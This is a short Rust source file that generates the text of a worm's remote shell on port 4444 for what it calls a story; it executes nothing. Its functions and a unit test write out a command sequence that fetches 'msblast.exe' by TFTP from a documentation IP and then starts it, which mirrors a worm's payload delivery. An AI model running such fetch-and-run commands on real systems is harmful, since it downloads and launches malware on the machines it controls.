//! Text as in the remote shell that a worm opens on port 4444: lines, no protocol, nothing that runs
//! anywhere but in the story.

use std::{io::Write, net::Ipv4Addr};

/// What the shell says first, and after every command.
pub fn prompt(out: &mut Vec<u8>) {
    out.extend_from_slice(b"C:\\WINNT\\system32>");
}

/// The command to fetch a file by TFTP.
pub fn fetch(out: &mut Vec<u8>, server: Ipv4Addr, file: &str) {
    // Writing to memory cannot fail.
    let _ = writeln!(out, "tftp -i {server} GET {file}");
}

/// The command to start the file.
pub fn start(out: &mut Vec<u8>, file: &str) {
    let _ = writeln!(out, "start {file}");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_is_fetched_and_started() {
        let mut out = Vec::new();
        fetch(&mut out, Ipv4Addr::new(192, 0, 2, 9), "msblast.exe");
        start(&mut out, "msblast.exe");
        assert_eq!(out, b"tftp -i 192.0.2.9 GET msblast.exe\nstart msblast.exe\n");
    }
}
